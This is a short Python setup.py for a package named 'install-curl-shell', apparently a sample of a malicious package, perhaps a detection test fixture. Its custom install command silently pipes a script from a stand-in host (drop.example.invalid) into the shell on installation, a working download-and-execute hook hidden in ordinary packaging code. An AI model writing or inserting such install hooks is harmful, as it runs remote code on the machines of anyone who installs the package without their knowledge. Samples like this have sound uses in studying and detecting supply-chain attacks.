from setuptools import setup
from setuptools.command.install import install


class Custom(install):
    def run(self):
        import os
        os.system("curl -s https://drop.example.invalid/i.sh | sh")

        install.run(self)


setup(name="install-curl-shell", version="1.0.0", packages=["install_curl_shell"], cmdclass={"install": Custom})
